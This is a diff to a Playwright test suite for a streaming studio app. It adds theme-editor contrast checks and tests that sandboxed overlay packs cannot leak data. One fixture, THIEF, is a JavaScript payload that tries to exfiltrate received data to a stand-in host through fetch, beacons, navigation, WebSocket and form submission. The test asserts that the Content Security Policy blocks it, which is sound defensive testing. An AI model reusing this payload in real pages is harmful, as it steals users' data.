@@ -1,7 +1,9 @@
 """The gallery of overlays, the theme editor, a pack and the board's pane, on one running studio."""
 
 import re
+import socket
 import time
+from contextlib import suppress
 from pathlib import Path
 
 import cv2
@@ -101,6 +103,10 @@ def test_theme_editor_shows_warns_and_dresses_open_overlays(studio, open_operato
     expect(page.locator("#contrast li").first).to_contain_text("“文字”在“卡片底色”上看不清")
     preview = page.frame_locator("#preview")
     expect(preview.locator(".card")).to_have_css("background-color", "rgb(16, 32, 48)")
+    page.get_by_label("字幕底板").fill("#ffffff")
+    expect(page.locator("#contrast")).to_contain_text("“字幕文字”在“字幕底板”上看不清")
+    expect(preview.locator(".caption")).to_have_css("background-color", "rgba(255, 255, 255, 0.78)")
+    page.get_by_label("字幕底板").fill("#301020")
     page.get_by_label("文字", exact=True).fill("#ffffff")
     expect(page.locator("#contrast")).not_to_contain_text("“文字”在“卡片底色”")
     sign = np.zeros((60, 160, 4), np.uint8)
@@ -115,6 +121,7 @@ def test_theme_editor_shows_warns_and_dresses_open_overlays(studio, open_operato
     row.get_by_role("button", name="用这个").click()
     expect(row).to_contain_text("正在用")
     expect(air.locator("html")).to_have_css("--card", "#102030")
+    expect(air.locator("html")).to_have_css("--plate", "#301020c7")
     expect(air.locator("[data-overlay='logo']")).to_be_visible()
     with page.expect_download() as download:
         row.get_by_role("link", name="导出“黄昏”").click()
@@ -145,6 +152,79 @@ def test_a_pack_is_drawn_from_what_it_is_given_and_reaches_nothing_else(studio, 
     assert inner.evaluate("fetch('/healthz').then(() => 'reached', () => 'refused')") == "refused"
     assert inner.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()") == "refused"
     assert inner.evaluate("(() => { try { return parent.location.search } catch { return 'refused' } })()") == "refused"
+    page.close()
+
+
+THIEF = """
+addEventListener("message", ({ data }) => {
+  if (data.type !== "topic" || data.value === null) return;
+  const away = "ELSEWHERE/?" + encodeURIComponent(JSON.stringify(data.value)).slice(0, 500);
+  fetch(away, { mode: "no-cors" }).catch(() => {});
+  new Image().src = away;
+  navigator.sendBeacon?.(away);
+  try { top.location = away; } catch {}
+  try { open(away); } catch {}
+  try { new WebSocket(away.replace("http", "ws")); } catch {}
+  const form = document.body.appendChild(document.createElement("form"));
+  form.action = away;
+  try { form.submit(); } catch {}
+  document.title = "tried";
+  location.href = away;
+});
+parent.postMessage({ type: "ready" }, "*");
+"""
+
+
+def write_pack(studio, name, script):
+    folder = studio.data_dir / "packs" / name
+    folder.mkdir(parents=True)
+    (folder / "pack.toml").write_text(f'title = "{name}"\ntopics = ["product"]\n', "utf-8")
+    (folder / "index.html").write_text("<!doctype html><body><script src=pack.js></script>", "utf-8")
+    (folder / "pack.js").write_text(script, "utf-8")
+
+
+@pytest.fixture
+def stage(tmp_path):
+    """A studio of the test's own, with a product on air."""
+    live = LiveStudio(tmp_path / "stage").start()
+    live.prepare_show()
+    yield live
+    live.stop()
+
+
+def test_a_pack_that_steals_gets_nothing_out(stage, chromium):
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        elsewhere.setblocking(False)
+        write_pack(stage, "thief", THIEF.replace("ELSEWHERE", f"http://127.0.0.1:{elsewhere.getsockname()[1]}"))
+        write_pack(stage, "burglar", THIEF.replace("ELSEWHERE", f"{stage.url}/api/v1/openapi.json"))
+        for name in ("thief", "burglar"):
+            page = chromium.new_page(viewport={"width": 1080, "height": 1920}, reduced_motion="reduce")
+            with page.expect_console_message(lambda message: message.text.startswith("Framing")) as refused:
+                page.goto(stage.overlay_url("pack", pack=name))
+            assert "Content Security Policy" in refused.value.text
+            assert page.url.startswith(f"{stage.url}/overlay/pack?")
+            page.close()
+        while True:  # a browser connects before it refuses, and says nothing
+            try:
+                visit = elsewhere.accept()[0]
+            except BlockingIOError:
+                break
+            with visit, suppress(BlockingIOError):
+                visit.setblocking(False)
+                assert visit.recv(1) == b""
+
+
+def test_a_pack_that_fails_is_told_in_previews_and_not_on_air(stage, chromium):
+    write_pack(stage, "failing", "throw new Error('oh')")
+    page = chromium.new_page(viewport={"width": 1080, "height": 1920}, reduced_motion="reduce")
+    page.goto(stage.overlay_url("pack", pack="failing", preview=1))
+    expect(page.locator(".pack-silent")).to_contain_text("按 F12")
+    page.goto(stage.overlay_url("pack", pack="failing"))
+    page.wait_for_selector("html[data-link=live]", state="attached")
+    assert page.locator(".pack-silent").count() == 0
+    page.goto(stage.overlay_url("pack", pack="chalkboard", preview=1))
+    expect(page.frame_locator("iframe.pack").locator("#name")).to_have_text("巴氏鲜牛奶")
+    expect(page.locator(".pack-silent")).to_be_hidden()
     page.close()
 
 
